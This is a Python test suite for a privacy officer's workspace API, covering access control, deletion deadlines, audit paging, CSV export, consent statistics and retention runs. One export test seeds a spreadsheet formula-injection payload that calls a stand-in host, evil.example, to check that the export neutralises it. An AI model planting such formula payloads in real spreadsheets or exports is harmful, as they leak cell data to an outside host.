"""The privacy officer's workspace (issue 20 item 7) over the real server and the real store:
only privacy officers, bad input a 400, deletion requests open and completed with working
days left, the audit filtered, paged and exported as CSV (injection-safe, row limit),
consent statistics over a period, retention runs; every read itself audited."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from chat_service.privacy import workspace
from chat_service.privacy.deletion import process_due
from chat_service.privacy.retention import load_retention_config, run_retention
from chat_service.storage.consents import DeciderDoc
from tests.helpers.consent import audit_entries, headers, raw_db, services_of
from tests.helpers.rights import file_deletion, notifier_for
from tests.helpers.ws import Client

WS = "/api/privacy/workspace"
ENDPOINTS = [
    WS + "/deletion-requests",
    WS + "/audit",
    WS + "/audit.csv",
    WS + "/consent-statistics",
    WS + "/retention-runs",
]
# Friday 13 February 2026, 10:00 in Shanghai (see tests/privacy/test_deletion.py): due on
# Thursday 12 March, 15 working days later (the Spring Festival in between).
RECEIVED = datetime(2026, 2, 13, 2, 0, tzinfo=UTC)
PSEUDONYM = re.compile(r"^p_[0-9a-f]{64}$")
PO = ("privacy_officer", "po-ws")


async def _get(client: Client, path: str, caller: tuple[str, str] = PO) -> Any:
    response = await client.get(path, headers=headers(client, *caller))
    assert response.status == 200, (path, response.status, await response.text())
    return await response.json()


async def test_when_anyone_but_a_privacy_officer_calls_the_workspace_then_it_is_refused(
    client: Client,
) -> None:
    for path in ENDPOINTS:
        assert (await client.get(path)).status == 401, path
        for role, sub in (("customer", "cust-1"), ("agent", "agent-1"), ("supervisor", "sup-1")):
            response = await client.get(path, headers=headers(client, role, sub))
            assert response.status == 403, (path, role)
            assert (await response.json())["error"]["code"] == "forbidden"
        response = await client.get(path, headers=headers(client, *PO))
        assert response.status == 200, (path, await response.text())
    # Refused callers read nothing and leave no read of the workspace behind them.
    readers = {e["actor"]["id"] for e in await audit_entries(client)}
    assert readers == {"po-ws"}


@pytest.mark.parametrize(
    "query",
    [
        "/deletion-requests?state=pending",
        "/audit?from=yesterday",
        "/audit?to=2026-02-30",
        "/audit?from=2026-03-01T10:00:00",  # no offset
        "/audit?from=2026-03-02&to=2026-03-01",
        "/audit?limit=0",
        "/audit?limit=201",
        "/audit?limit=ten",
        "/audit?cursor=not-a-cursor",
        "/audit?customer_id=" + "c" * 129,
        "/audit.csv?actor_id=" + "a" * 129,
        "/consent-statistics?from=2025-01-01&to=2026-06-01",  # over a year
        "/consent-statistics?from=2026-03-02&to=2026-03-01",
    ],
)
async def test_when_the_workspace_gets_bad_input_then_it_answers_400_naming_it(
    client: Client, query: str
) -> None:
    response = await client.get(WS + query, headers=headers(client, *PO))
    assert response.status == 400, (query, await response.text())
    assert (await response.json())["error"]["code"] == "bad_request"


async def test_when_requests_are_open_and_completed_then_each_shows_its_deadline_in_working_days(
    client: Client, tmp_path: Path
) -> None:
    services = services_of(client)
    services.clock = lambda: RECEIVED
    assert (await file_deletion(client, "cust-done"))[0] == 201
    notifier = await notifier_for(client, tmp_path)
    [done] = await process_due(services, notifier=notifier)  # no data held: completed
    assert done["status"] == "completed"
    assert (await file_deletion(client, "cust-open"))[0] == 201

    opened = await _get(client, WS + "/deletion-requests")
    assert opened["state"] == "open"
    assert opened["deadline_working_days"] == 15
    [row] = opened["deletion_requests"]
    assert row["customer_id"] == "cust-open"
    assert row["status"] == "received"
    assert row["open"] is True
    assert row["working_days_left"] == 15
    assert row["overdue"] is False
    assert row["due_at"].startswith("2026-03-12T15:59:59.999")

    completed = await _get(client, WS + "/deletion-requests?state=completed")
    [evidence] = completed["deletion_requests"]
    assert PSEUDONYM.match(evidence["customer_id"]), evidence["customer_id"]
    assert "cust-done" not in str(evidence)
    assert evidence["open"] is False
    assert evidence["working_days_left"] is None
    assert evidence["completed_in_time"] is True
    assert evidence["deleted"]["messages"] == 0  # what the deletion removed, as evidence
    assert [h["status"] for h in evidence["history"]][-1] == "completed"

    # The day after the deadline (Friday 13 March): overdue, one working day late.
    services.clock = lambda: datetime(2026, 3, 13, 4, 0, tzinfo=UTC)
    both = await _get(client, WS + "/deletion-requests?state=all")
    by_status = {r["status"]: r for r in both["deletion_requests"]}
    assert by_status["received"]["overdue"] is True
    assert by_status["received"]["working_days_left"] == -1
    assert by_status["completed"]["overdue"] is False

    views = await audit_entries(client, action="privacy_workspace_viewed")
    seen = [(v["details"]["view"], v["details"]["state"]) for v in views]
    # The first two were read at the same frozen instant: their order is a tie.
    assert sorted(seen[:2]) == [("deletion_requests", "completed"), ("deletion_requests", "open")]
    assert seen[2:] == [("deletion_requests", "all")]  # read a day later
    assert {v["actor"]["id"] for v in views} == {"po-ws"}


async def _seed_audit(client: Client) -> datetime:
    """Eight entries, one a minute from 1 March 2026 09:00 UTC: customers c-1/c-2 in turn,
    read by agent-a (the first five) or agent-b; returns the first entry's time."""
    audit = services_of(client).store.audit
    start = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
    for i in range(8):
        await audit.record(
            at=start + timedelta(minutes=i),
            actor={"role": "agent", "id": "agent-a" if i < 5 else "agent-b"},
            action="sensitive_read",
            customer_id=f"c-{i % 2 + 1}",
            reason="consent granted",
            message_id=f"m-{i}",
            categories=["financial"],
        )
    return start


async def test_when_the_officer_filters_and_pages_the_audit_then_each_entry_comes_once_newest_first(
    client: Client,
) -> None:
    start = await _seed_audit(client)

    def ids(page: dict[str, Any]) -> list[str]:
        return [e["message_id"] for e in page["entries"]]

    by_customer = await _get(client, WS + "/audit?customer_id=c-1")
    assert ids(by_customer) == ["m-6", "m-4", "m-2", "m-0"]
    by_agent = await _get(client, WS + "/audit?actor_id=agent-b&customer_id=c-2")
    assert ids(by_agent) == ["m-7", "m-5"]
    since = (start + timedelta(minutes=2)).strftime("%Y-%m-%dT%H:%M:%SZ")
    until = (start + timedelta(minutes=4)).isoformat().replace("+00:00", "%2B00:00")
    window = await _get(client, f"{WS}/audit?actor_id=agent-a&from={since}&to={until}")
    assert ids(window) == ["m-3", "m-2"]  # `to` exclusive
    assert ids(await _get(client, WS + "/audit?from=2026-03-02&actor_id=agent-a")) == []
    assert len(ids(await _get(client, WS + "/audit?to=2026-03-01&actor_id=agent-a"))) == 5

    seen: list[str] = []
    path = WS + "/audit?actor_id=agent-a&limit=2"
    while True:
        page = await _get(client, path)
        seen += ids(page)
        if page["next_cursor"] is None:
            break
        path = WS + f"/audit?actor_id=agent-a&limit=2&cursor={page['next_cursor']}"
    assert seen == ["m-4", "m-3", "m-2", "m-1", "m-0"]
    entry = by_customer["entries"][0]
    assert entry["actor"] == {"role": "agent", "id": "agent-b"}  # m-6
    assert entry["categories"] == ["financial"]
    assert entry["pseudonymised"] is False

    # Every read of the audit is in the audit, with the filters it used.
    views = await audit_entries(client, action="privacy_workspace_viewed")
    assert len(views) == 8
    assert views[1]["details"]["actor_id"] == "agent-b"
    assert views[1]["customer_id"] == "c-2"
    assert views[-1]["details"]["page_after"] is not None


async def test_when_the_officer_downloads_the_audit_then_the_csv_is_streamed_limited_and_formula_safe(  # noqa: E501
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    await _seed_audit(client)
    audit = services_of(client).store.audit
    await audit.record(
        at=datetime(2026, 3, 1, 10, 0, tzinfo=UTC),
        actor={"role": "agent", "id": "@agent-evil"},
        action="sensitive_read",
        customer_id="c-1",
        reason='=HYPERLINK("http://evil.example/?x="&A1)',
        details={"note": "-2+3"},
    )

    response = await client.get(WS + "/audit.csv?customer_id=c-1", headers=headers(client, *PO))
    assert response.status == 200
    assert response.content_type == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="audit-')
    assert response.headers["X-Audit-Rows-Matched"] == "5"
    rows = list(csv.reader(io.StringIO(await response.text())))
    assert rows[0] == list(workspace.CSV_COLUMNS)
    assert len(rows) == 6
    evil = rows[1]
    assert evil[3] == "'@agent-evil"
    assert evil[7] == '\'=HYPERLINK("http://evil.example/?x="&A1)'
    assert [r[5] for r in rows[2:]] == ["m-6", "m-4", "m-2", "m-0"]
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row

    monkeypatch.setattr(workspace, "CSV_ROW_LIMIT", 3)
    limited = await client.get(WS + "/audit.csv?actor_id=agent-a", headers=headers(client, *PO))
    assert limited.headers["X-Audit-Rows-Matched"] == "5"
    assert len(list(csv.reader(io.StringIO(await limited.text())))) == 1 + 3

    [first, second] = await audit_entries(client, action="privacy_audit_exported")
    assert first["actor"] == {"role": "privacy_officer", "id": "po-ws"}
    assert first["details"]["rows"] == 5 and first["customer_id"] == "c-1"
    assert second["details"] == {**second["details"], "rows": 3, "matched": 5}


async def test_when_the_officer_asks_for_consent_statistics_then_each_category_counts_its_decisions_in_the_period(  # noqa: E501
    client: Client,
) -> None:
    store = services_of(client).store
    decider: DeciderDoc = {"role": "customer", "id": "c-1"}
    inside = datetime(2026, 3, 10, 8, 0, tzinfo=UTC)
    for decision, categories, at in (
        ("granted", ["financial"], inside),
        ("granted", ["financial", "health"], inside),
        ("refused", ["health"], inside),
        ("withdrawn", ["financial"], inside + timedelta(days=1)),
        ("granted", ["financial"], datetime(2026, 1, 5, tzinfo=UTC)),  # before the period
    ):
        await store.consents.append(
            customer_id="c-1",
            purpose="support",
            categories=categories,
            decision=decision,  # type: ignore[arg-type]  # one of the ledger's decisions
            policy_version="1",
            at=at,
            decided_by=decider,
            evidence={},
        )
    await store.consent_requests.create(
        {
            "customer_id": "c-2",
            "conversation_id": "conv-2",
            "purpose": "support",
            "categories": ["precise_location"],
            "message_ids": [],
            "guardian_required": False,
            "language": "en",
            "policy_version": "1",
            "created_at": inside,
            "expires_at": inside + timedelta(hours=1),
        }
    )

    stats = await _get(client, WS + "/consent-statistics?from=2026-03-01&to=2026-03-31")
    assert stats["since"] == "2026-03-01T00:00:00+00:00"
    assert stats["until"] == "2026-04-01T00:00:00+00:00"
    zero = dict.fromkeys(workspace.STATS_DECISIONS, 0)
    assert stats["categories"] == {
        "financial": {**zero, "granted": 2, "withdrawn": 1},
        "health": {**zero, "granted": 1, "refused": 1},
        "precise_location": {**zero, "pending": 1},
    }
    [view] = await audit_entries(client, action="privacy_workspace_viewed")
    assert view["details"]["view"] == "consent_statistics"


async def test_when_the_officer_lists_retention_runs_and_holds_then_both_are_shown_and_audited(
    client: Client,
) -> None:
    services = services_of(client)
    config = await asyncio.to_thread(load_retention_config, services.settings.config_dir)
    summary = await run_retention(
        services, config, now=datetime.now(UTC), dry_run=False, holder="test"
    )
    runs = await _get(client, WS + "/retention-runs")
    assert runs["runs_total"] == 1 and runs["dry_runs"] == 0
    assert [r["id"] for r in runs["recent"]] == [summary.run_id]

    holds = await _get(client, "/api/privacy/legal-holds?active=all")
    assert holds["legal_holds"] == []
    views = await audit_entries(client)
    assert [(v["action"], v["details"].get("view")) for v in views] == [
        ("privacy_workspace_viewed", "retention_runs"),
        ("legal_holds_viewed", None),
    ]
    assert await raw_db(client)["audit"].count_documents({"actor.id": "po-ws"}) == 2


async def test_when_the_workspace_page_is_asked_for_then_it_is_served_under_the_strict_policy(
    client: Client,
) -> None:
    response = await client.get("/privacy/")
    assert response.status == 200
    text = await response.text()
    assert "<title>Privacy office</title>" in text
    policy = response.headers["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
    assert response.headers["X-Frame-Options"] == "DENY"
    redirect = await client.get("/privacy", allow_redirects=False)
    assert redirect.status == 308
